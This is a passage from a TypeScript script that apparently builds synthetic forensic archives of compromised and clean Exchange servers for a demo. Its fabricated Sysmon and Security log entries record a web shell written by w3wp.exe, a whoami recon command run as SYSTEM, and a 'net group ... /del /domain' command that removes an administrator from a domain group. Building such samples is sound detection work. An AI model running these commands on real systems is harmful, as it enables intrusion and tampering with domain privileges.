    `c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "${name}" -v "v4.0" -c "D:\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config"`;
  const sysmon = sysmonNxlog(
    s,
    [
      {
        at: '2021-03-04T08:10:14Z',
        id: 11,
        data: {
          ProcessGuid: `{${guid(r)}}`,
          ProcessId: '7712',
          Image: w3wp,
          TargetFilename: shell,
          CreationUtcTime: '2021-03-04 08:10:14.022',
        },
      },
      {
        at: '2021-03-04T08:31:40Z',
        id: 1,
        data: {
          ProcessGuid: `{${guid(r)}}`,
          ProcessId: '9120',
          Image: 'C:\\Windows\\System32\\cmd.exe',
          FileVersion: '10.0.14393.0',
          OriginalFileName: 'Cmd.Exe',
          CommandLine: 'cmd /c "cd /d "D:\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth"&whoami&echo [S]&cd&echo [E]"',
          CurrentDirectory: 'c:\\windows\\system32\\inetsrv\\',
          User: 'NT AUTHORITY\\SYSTEM',
          LogonId: '0x3e7',
          IntegrityLevel: 'System',
          ParentProcessGuid: `{${guid(r)}}`,
          ParentProcessId: '7712',
          ParentImage: w3wp,
          ParentCommandLine: pool('MSExchangeOWAAppPool'),
          Hashes: 'SHA1=F1EFB0FDDC156E4C61C5F78A54700E4E7984D55D,MD5=A6177D080759CF4A03EF837A38F62401',
        },
      },
    ],
    52_000,
  );
  const security = securityNxlog(
    r,
    s,
    [
      {
        at: '2021-03-04T08:33:05Z',
        newImage: 'C:\\Windows\\System32\\net.exe',
        creatorImage: 'C:\\Windows\\System32\\cmd.exe',
        commandLine: 'net group "Exchange Organization administrators" administrator /del /domain',
        user: 'MBX04$',
        domain: 'CORP',
        sid: 'S-1-5-18',
      },
    ],
    '2021-03-01',
    6,
  );
  return zip([
    { name: `${s.name}/eventlogs/nxlog.json`, data: nxlogText([...sysmon, ...security]), mtime: new Date('2021-03-06T11:02:00Z') },
  ]);
}

function main(): void {
  const root = path.resolve(__dirname.includes('.cache') ? process.cwd() : path.join(__dirname, '..'));
  const out = path.resolve(process.argv[2] ?? path.join(root, 'samples', 'agency-demo'));
  fs.mkdirSync(out, { recursive: true });
  const archives = [
    ['EXCH01-compromised.zip', exch01],
    ['EXCH02-clean.zip', exch02],
    ['CAS03-compromised-front-end.zip', cas03],
    ['MBX04-compromised-back-end.zip', mbx04],
  ] as const;
  for (const [name, make] of archives) {
    const buf = make();
    fs.writeFileSync(path.join(out, name), buf);
    process.stdout.write(`${path.join(out, name)}: ${(buf.length / 1024).toFixed(0)} KiB\n`);
  }
}

main();
